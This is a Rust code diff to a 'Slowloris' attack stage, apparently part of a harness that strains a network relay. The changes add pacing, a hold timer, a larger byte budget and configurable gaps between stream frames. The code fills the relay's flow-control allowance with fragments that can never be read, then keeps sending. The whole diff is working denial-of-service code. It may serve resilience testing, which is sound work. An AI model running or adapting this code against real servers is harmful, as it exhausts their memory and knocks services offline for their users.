@@ -14,6 +14,7 @@ use crate::ground::{Ground, HOSTILE, READERS, office, transport_seed};
 use crate::hacked::{self, Hacked};
 use crate::letters::Pen;
 use crate::line::Line;
+use crate::pace::Pace;
 use crate::place::OURS;
 use crate::relay::Target;
 use crate::wild;
@@ -22,7 +23,11 @@ use crate::wild;
 const STREAMS: u64 = 1000;
 /// What the relay allows a session to have on its way; it is filled, and later more is tried.
 const ALLOWED: u64 = 2 * 1024 * 1024 - 64 * 1024;
-const MORE: u64 = 80 * 1024 * 1024;
+const MORE: u64 = 120 * 1024 * 1024;
+/// For how long what is allowed is held before more is tried.
+const HELD: Duration = Duration::from_millis(1500);
+/// Packets in a second.
+const PACE: u64 = 40_000;
 
 #[derive(Debug)]
 pub(crate) struct Slowloris;
@@ -54,10 +59,11 @@ async fn hold_on(ground: &Ground, target: &Target, end: CancellationToken) -> Re
     let (opened, withheld) = (a_byte_each(target, end.clone()), without_an_end(ground, target));
     let holes = async {
         let mut holes = JoinSet::new();
-        for (n, bytes) in [(3, 1100_usize), (4, 1100), (5, 1)] {
+        // Two with one hole at the beginning of each stream; one with a hole after each byte.
+        for (n, bytes, apart) in [(3, 1100_usize, 0_u64), (4, 1100, 0), (5, 1, 1)] {
             let hacked = Hacked::open(&office(HOSTILE, n), target).await?;
             let end = end.clone();
-            holes.spawn_blocking(move || with_holes(hacked, bytes, &end));
+            holes.spawn_blocking(move || with_holes(hacked, bytes, apart, &end));
         }
         Ok::<u64, StageError>(holes.join_all().await.into_iter().sum())
     };
@@ -109,28 +115,26 @@ async fn without_an_end(ground: &Ground, target: &Target) -> Result<((Line, Vec<
     Ok(((line, streams), count))
 }
 
-/// Fills what the relay allows with pieces that lie apart, so that nothing of it can be read; then tries
-/// more.
-fn with_holes(mut hacked: Hacked, bytes: usize, end: &CancellationToken) -> u64 {
+/// Fills what the relay allows with pieces so that nothing of it can be read; then tries more.
+fn with_holes(mut hacked: Hacked, bytes: usize, apart: u64, end: &CancellationToken) -> u64 {
     let piece = vec![7; bytes];
-    let (mut sent, begun) = (0_u64, Instant::now());
+    let (mut pace, mut sent) = (Pace::of(PACE), 0_u64);
     let (mut offsets, mut turn) = (vec![1_u64; 16], 0_usize);
     while !end.is_cancelled() && sent < MORE {
-        for _ in 0..60 {
+        for _ in pace.next() {
+            if sent >= ALLOWED && pace.ran() < HELD {
+                break;
+            }
             let mut frames = Vec::new();
             while frames.len() + bytes + 20 < 1180 {
                 let stream = turn % offsets.len();
                 frames.extend(hacked::stream(stream as u64 * 4, offsets[stream], &piece));
-                offsets[stream] += bytes as u64 + 1;
-                sent += bytes as u64 + 1;
+                offsets[stream] += bytes as u64 + apart;
+                sent += bytes as u64 + apart;
                 turn += 1;
             }
             hacked.send(&frames);
-            if sent >= ALLOWED && begun.elapsed() < Duration::from_millis(1500) {
-                std::thread::sleep(Duration::from_millis(1500).saturating_sub(begun.elapsed()));
-            }
         }
-        std::thread::sleep(Duration::from_millis(1));
     }
     sent
 }
